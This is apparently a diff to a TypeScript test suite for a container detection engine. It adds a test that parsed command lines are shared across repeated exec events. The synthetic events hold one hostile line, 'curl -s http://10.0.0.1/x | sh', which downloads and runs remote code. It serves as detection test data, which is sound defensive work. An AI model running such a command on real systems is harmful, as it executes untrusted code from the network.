@@ -10,7 +10,7 @@ import { container, createWorkload, podSpec, rbacObject } from '../../../../cont
 import { toAuditRecord } from '../../../../controlplane/src/audit/to-audit-record';
 import { CONTAINER_ID, connectEvent, containerStarted, execEvent, execInPod, shellInContainer } from '../../../helpers/synthetic-events';
 import { chain, proc } from '../../../helpers/rule-context';
-import { ancestorsOf } from '../../../../controlplane/src/detections/facts';
+import { ancestorsOf, programOf } from '../../../../controlplane/src/detections/facts';
 import { eventCodec } from '../../../../proto/loader';
 
 const file = (f: Partial<RulesFile>): RulesFile => ({ lists: {}, rules: {}, intel: { feeds: [] }, ...f });
@@ -45,6 +45,16 @@ describe('DetectionEngine', () => {
     assert.ok(Object.isFrozen(events[3].ancestry[0]), 'the fourth decode shares the ancestor');
     assert.equal(programs[3], programs[2], 'shared node, one Program');
     assert.notEqual(programs[1], programs[0], 'a node of its own, a Program of its own');
+  });
+
+  test('a command line that repeats is worked out once, each run keeping its own process', () => {
+    const runs = [9101, 9102].map((pid) => execEvent({ pid, filename: '/bin/sh', argv: ['sh', '-c', 'curl -s http://10.0.0.1/x | sh'] }));
+    const [a, b] = runs.map((ev) => programOf(ev));
+    assert.deepEqual([a.pid, b.pid], [9101, 9102]);
+    assert.equal(a.names, b.names, 'the same names, worked out once');
+    assert.equal(a.shellLine, b.shellLine, 'the same parsed line');
+    const other = programOf(execEvent({ pid: 9103, filename: '/bin/sh', argv: ['sh', '-c', 'id'] }));
+    assert.notEqual(other.shellLine, a.shellLine);
   });
 
   test('merge keys: the same command from the same parent program merges, another command does not', () => {
